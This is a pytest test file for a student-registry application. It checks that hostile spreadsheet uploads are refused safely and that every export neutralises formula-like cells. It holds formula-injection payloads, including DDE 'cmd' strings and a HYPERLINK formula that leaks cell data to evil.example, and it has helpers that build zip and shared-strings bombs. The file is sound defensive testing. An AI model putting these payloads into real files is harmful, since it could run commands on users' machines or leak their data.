"""Issue 8, hostile input: spreadsheets (B2).

Uploads: a damaged or fake workbook, a zip bomb, a sheet reaching row 1,048,576 or column
XFD, a shared-strings bomb, a part that lies about its size, and formula cells are all
refused (or read as plain values) with a sentence for the registrar (an English msgid the
Chinese catalogue translates), never a stack trace, and nothing is written.

Exports: every spreadsheet or CSV Xueji writes goes through the writers of
exchange/excel.py (and the photo job's report), and none of them lets a cell starting with
= + - @ (or a tab or carriage return) become a formula: the roster (xlsx and CSV, page and
API), the import's error workbook, the national template export, and every other caller of
the writers, found by reading the source (see test_every_export_goes_through_the_*).
"""

import ast
import csv
import io
import struct
import time
import zipfile
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from tests.exchange.helpers import workbook_bytes
from tests.students.conftest import raw_student
from xueji.audit.models import AuditEvent
from xueji.core.errors import RuleViolation
from xueji.core.jobs import run_pending
from xueji.core.models import Job
from xueji.exchange import excel
from xueji.exchange.services import export_roster, import_students
from xueji.students.form_items import SHEET_ITEMS
from xueji.students.jobs import photo_report
from xueji.students.models import Student
from xueji.students.photo_services import PhotoOutcome

SRC = Path(__file__).resolve().parents[2] / "src" / "xueji"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Read back from XML, a carriage return is a line feed.
READ_BACK_STARTS = (*FORMULA_STARTS, "\n")
HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+1+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture(autouse=True)
def _english(english):
    yield


# --- Workbooks built part by part, as an attacker would --------------------------------------

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
    'package/2006/content-types"><Default Extension="rels" ContentType="application/'
    'vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
    'ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType='
    '"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
    'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override PartName='
    '"/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'spreadsheetml.sharedStrings+xml"/></Types>'
)
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
    'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://'
    'schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="xl/workbook.xml"/></Relationships>'
)
WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/'
    'spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships"><sheets><sheet name="学生信息" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
    'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://'
    'schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target='
    '"worksheets/sheet1.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.'
    'org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
    "</Relationships>"
)
SHEET_START = (
    '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
    'spreadsheetml/2006/main">'
)


def header_row() -> str:
    cells = "".join(
        f'<c r="{_column(n)}1" t="inlineStr"><is><t>{item.header}</t></is></c>'
        for n, item in enumerate(SHEET_ITEMS)
    )
    return f'<row r="1">{cells}</row>'


def _column(index: int) -> str:
    from openpyxl.utils import get_column_letter

    return get_column_letter(index + 1)


def xlsx(sheet_data: str, *, dimension: str = "", shared: str = "<sst/>") -> bytes:
    """A minimal .xlsx whose first sheet holds `sheet_data` (the rows' XML)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("_rels/.rels", ROOT_RELS)
        archive.writestr("xl/workbook.xml", WORKBOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", WORKBOOK_RELS)
        dim = f'<dimension ref="{dimension}"/>' if dimension else ""
        archive.writestr(
            "xl/worksheets/sheet1.xml",
            f"{SHEET_START}{dim}<sheetData>{sheet_data}</sheetData></worksheet>",
        )
        archive.writestr(
            "xl/sharedStrings.xml",
            '<?xml version="1.0" encoding="UTF-8"?>'
            + shared.replace(
                "<sst", '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"', 1
            ),
        )
    return buffer.getvalue()


def lying_about_its_size(data: bytes, member: str, claimed: int) -> bytes:
    """Rewrite a member's uncompressed size, in its local and central headers, to a lie."""
    patched = bytearray(data)
    name = member.encode()
    for signature, size_at, name_at in ((b"PK\x03\x04", 22, 30), (b"PK\x01\x02", 24, 46)):
        start = patched.find(signature)
        while start != -1:
            if patched[start + name_at :].startswith(name):
                struct.pack_into("<I", patched, start + size_at, claimed)
            start = patched.find(signature, start + 1)
    return bytes(patched)


def asking_for_zip_version(data: bytes, version: int) -> bytes:
    """Rewrite every central directory entry's "version needed to extract" (6.4 = 64)."""
    patched = bytearray(data)
    start = patched.find(b"PK\x01\x02")
    while start != -1:
        struct.pack_into("<H", patched, start + 6, version)
        start = patched.find(b"PK\x01\x02", start + 1)
    return bytes(patched)


def zip_of(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def a_valid_workbook() -> bytes:
    return workbook_bytes([raw_student(sequence=1)])


def million_rows() -> bytes:
    """A real sheet of 1,048,576 rows (the most Excel holds), each with a value."""
    rows = "".join(f'<row r="{n}"><c r="A{n}"><v>{n}</v></c></row>' for n in range(2, 1048577))
    return xlsx(header_row() + rows)


# Built when a test asks, so collecting this file stays quick.
HOSTILE_FILES = {
    "random-bytes-named-xlsx": (lambda: bytes(range(256)) * 40, "this is not a spreadsheet"),
    "truncated-xlsx": (lambda: a_valid_workbook()[:4000], "the workbook cannot be read"),
    "zip-that-is-no-workbook": (
        lambda: zip_of({"readme.txt": b"hello"}),
        "the workbook cannot be read",
    ),
    "zip-header-then-nothing": (lambda: b"PK\x03\x04" + bytes(100), "the workbook cannot be read"),
    # Found by the fuzz test: Python's zipfile refuses it with NotImplementedError.
    "zip-of-a-newer-version": (
        lambda: asking_for_zip_version(a_valid_workbook(), 64),
        "the workbook cannot be read",
    ),
    "cell-in-XFD1048576": (
        lambda: xlsx(header_row() + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
        "beyond row",
    ),
    "cell-in-column-ZZ": (
        lambda: xlsx(header_row() + '<row r="2"><c r="ZZ2"><v>1</v></c></row>'),
        "column",
    ),
    "reference-quoted-and-spaced": (
        lambda: xlsx(
            header_row() + "<row r = '300000'><c t=\"n\" r = 'A300000'><v>1</v></c></row>"
        ),
        "beyond row",
    ),
    "shared-strings-bomb": (
        lambda: xlsx(header_row(), shared="<sst>" + "<si><t>炸弹</t></si>" * 2_000_000 + "</sst>"),
        "unpacks to far more data",
    ),
    "sheet-bomb": (
        lambda: xlsx(
            header_row() + '<row r="2">' + '<c r="A2"><v>0</v></c>' * 3_000_000 + "</row>"
        ),
        "unpacks to far more data",
    ),
    "part-lying-about-its-size": (
        lambda: lying_about_its_size(
            xlsx(header_row(), shared="<sst>" + "<si><t>x</t></si>" * 200_000 + "</sst>"),
            "xl/sharedStrings.xml",
            1000,
        ),
        "the workbook cannot be read",
    ),
}


@pytest.fixture
def run_import(cast, school_year):
    def run(data: bytes):
        return import_students(
            data,
            "students.xlsx",
            actor=cast.a1_registrar,
            school=cast.school_a1,
            school_year=school_year,
        )

    return run


@pytest.mark.parametrize("name", HOSTILE_FILES)
def test_a_hostile_workbook_is_refused_with_a_sentence_and_nothing_is_written(run_import, name):
    make, reason = HOSTILE_FILES[name]
    data = make()
    events = AuditEvent.objects.count()
    started = time.monotonic()
    with pytest.raises(RuleViolation) as refused:
        run_import(data)
    assert time.monotonic() - started < 30
    assert refused.value.field == "file"
    assert refused.value.message.startswith("File: ") and reason in refused.value.message
    assert "Traceback" not in refused.value.message
    assert not Student.objects.exists() and AuditEvent.objects.count() == events


def test_a_million_rows_are_refused_before_any_reader_builds_them(run_import):
    started = time.monotonic()
    with pytest.raises(RuleViolation) as refused:
        run_import(million_rows())
    assert "beyond row 200010" in refused.value.message
    assert time.monotonic() - started < 30
    assert not Student.objects.exists()


def test_rows_beyond_the_limit_are_counted_in_the_message():
    rows = [raw_student(sequence=n) for n in range(1, 13)]
    with pytest.raises(RuleViolation) as refused:
        excel.read_sheet(workbook_bytes(rows), max_rows=10)
    assert refused.value.message in (
        "File: 12 rows are more than the 10 one file may hold; split it.",
        "File: the sheet has cells beyond row 20 or column DZ, more than a student list can "
        "hold. Delete the cells far below or to the right of the list, or split the file.",
    )


def test_a_declared_dimension_is_not_believed():
    """A sheet may claim A1:XFD1048576 and hold three rows: it is read as three rows."""
    data = xlsx(header_row(), dimension="A1:XFD1048576")
    sheet = excel.read_sheet(data)
    assert sheet.total == 0 and list(sheet.rows()) == []


def test_the_template_and_a_filled_workbook_pass_the_archive_check():
    from xueji.exchange.services import template_bytes
    from xueji.exchange.xlsx_guard import check_xlsx_archive

    check_xlsx_archive(template_bytes(), max_row=200_010)
    check_xlsx_archive(a_valid_workbook(), max_row=200_010)


def test_a_formula_in_a_cell_is_read_as_its_saved_value_never_run(run_import):
    """A formula with no saved value reads as empty; one with a saved value reads as that
    value. Neither is evaluated, so "=cmd|..." can only ever be refused text."""
    workbook = load_workbook(io.BytesIO(a_valid_workbook()))
    sheet = workbook.active
    headers = [cell.value for cell in sheet[1]]
    sheet.cell(row=2, column=headers.index("姓名") + 1).value = "=cmd|' /C calc'!A0"
    sheet.cell(row=2, column=headers.index("现住址") + 1).value = '=HYPERLINK("http://x","y")'
    buffer = io.BytesIO()
    workbook.save(buffer)
    report = run_import(buffer.getvalue())
    assert report.imported == 0 and not Student.objects.exists()
    assert "name" in {key for _row, key, _m in report.errors}
    book = load_workbook(io.BytesIO(report.error_workbook))
    assert all(cell.data_type != "f" for row in book.active.iter_rows() for cell in row)


def test_the_import_page_and_the_api_answer_a_hostile_file_without_a_stack_trace(
    cast, client_for, school_year
):
    client = client_for(cast.a1_registrar)
    client.cookies["django_language"] = "en"
    data = HOSTILE_FILES["cell-in-XFD1048576"][0]()
    page = client.post("/exchange/import/", {"file": SimpleUploadedFile("s.xlsx", data)})
    assert page.status_code == 302
    api = client.post(
        "/api/v1/students/import",
        {"file": SimpleUploadedFile("s.xlsx", data), "school_id": cast.school_a1.pk},
    )
    assert api.status_code == 202
    assert run_pending() == 2
    for job in Job.objects.all():
        assert job.status == Job.Status.FAILED
        assert "XFD" not in job.message and "Traceback" not in job.message
        assert job.message  # the sentence, in the installation's language
    random = client.post(
        "/api/v1/students/import",
        {"file": SimpleUploadedFile("s.xlsx", bytes(range(256))), "school_id": cast.school_a1.pk},
    )
    assert random.status_code == 400 and random.json()["field"] == "file"
    assert not Student.objects.exists()


# --- Exports: no cell becomes a formula ------------------------------------------------------


def assert_no_formula_in_xlsx(data: bytes) -> int:
    """Every cell is a value, and every text that starts like a formula is marked as text
    (a leading apostrophe, or Excel's quote prefix). Returns how many hostile cells were seen."""
    book = load_workbook(io.BytesIO(data))
    seen = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                value = cell.value
                if isinstance(value, str) and value.lstrip("'").startswith(READ_BACK_STARTS):
                    seen += 1
                    assert value.startswith("'") or cell.quotePrefix, (cell.coordinate, value)
    return seen


def assert_no_formula_in_csv(data: bytes) -> int:
    seen = 0
    for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")):
        for value in row:
            assert not value.startswith(FORMULA_STARTS), value
            seen += value.startswith("'")
    return seen


def test_the_table_writers_neutralise_every_formula_start():
    rows = [[value, "ok"] for value in HOSTILE]
    assert assert_no_formula_in_xlsx(
        excel.write_table_xlsx(["a", "b"], rows, sheet_name="t")
    ) == len(HOSTILE)
    assert assert_no_formula_in_csv(excel.write_table_csv(["a", "b"], rows)) == len(HOSTILE)


def test_the_error_workbook_keeps_hostile_cells_as_text_even_when_edited():
    headers = [item.header for item in SHEET_ITEMS[:3]]
    columns = {item.key: index for index, item in enumerate(SHEET_ITEMS[:3])}
    rows = [
        excel.ErrorRow(cells=[value, value, 1.5], message=value, bad={1}, warned=set())
        for value in HOSTILE
    ]
    data = excel.write_error_workbook(headers, columns, rows)
    assert assert_no_formula_in_xlsx(data) >= 2 * len(HOSTILE)


def test_the_national_template_export_neutralises_its_cells():
    write = getattr(excel, "write_filled_template", None)
    if write is None:
        pytest.skip("no national template export in this tree")
    row = [HOSTILE[index % len(HOSTILE)] for index in range(len(SHEET_ITEMS))]
    assert assert_no_formula_in_xlsx(write([row])) >= len(HOSTILE)


def test_the_photo_report_neutralises_file_names_and_reasons():
    outcomes = [PhotoOutcome(name=value, refusal=value) for value in HOSTILE]
    report = photo_report(outcomes)
    assert assert_no_formula_in_csv(report) == 2 * len(HOSTILE)


def test_the_roster_export_of_hostile_addresses_is_safe_on_the_page_and_the_api(
    cast, register, client_for
):
    for sequence, value in enumerate(HOSTILE[:5], start=1):
        register(sequence=sequence, current_address=value, native_place=value[:30])
    for fmt, check in (("xlsx", assert_no_formula_in_xlsx), ("csv", assert_no_formula_in_csv)):
        exported = export_roster({}, fmt, actor=cast.a1_registrar, full=True)
        assert check(exported.content) >= 5, fmt
    client = client_for(cast.a1_registrar)
    page = client.get("/exchange/roster.xlsx")
    assert page.status_code == 200 and assert_no_formula_in_xlsx(page.content) >= 5
    api = client.get("/api/v1/students/export", {"format": "csv", "full": "true"})
    assert api.status_code == 200 and assert_no_formula_in_csv(api.content) >= 5


def _spreadsheet_producers() -> dict[str, set[str]]:
    """Every module of Xueji that writes a spreadsheet or CSV, and how: by building a
    workbook or a CSV writer itself, or by calling the shared writers."""
    found: dict[str, set[str]] = {}
    for path in sorted(SRC.rglob("*.py")):
        if "migrations" in path.parts:
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if isinstance(node, ast.Call):
                func = node.func
                name = func.attr if isinstance(func, ast.Attribute) else getattr(func, "id", "")
                if (
                    name in {"Workbook", "writer", "DictWriter"}
                    or name.startswith("write_table")
                    or name == "write_filled_template"
                ):
                    found.setdefault(str(path.relative_to(SRC)), set()).add(name)
    return found


# The modules allowed to build workbooks or CSV writers themselves; each is tested above.
WRITERS = {
    "exchange/excel.py",  # the template, the error workbook, the tables, the national export
    "students/jobs.py",  # photo_report
}


def test_every_export_goes_through_the_neutralising_writers():
    """Found by reading the source, so a new export (statistics, national, packages ...) is
    covered the day it is written: it may only call the shared writers, which the tests
    above prove safe; a module that builds its own workbook or CSV fails here until it is
    added to WRITERS with a test of its own."""
    producers = _spreadsheet_producers()
    own = {
        module
        for module, calls in producers.items()
        if calls & {"Workbook", "writer", "DictWriter"} and module not in WRITERS
    }
    assert own == set(), f"modules writing spreadsheets without the shared writers: {own}"
    callers = {module for module, calls in producers.items() if module not in WRITERS}
    # Printed with -v so the report can list them; the roster and imports are among them.
    print("exports through the shared writers:", sorted(callers))
    assert "exchange/services.py" in callers
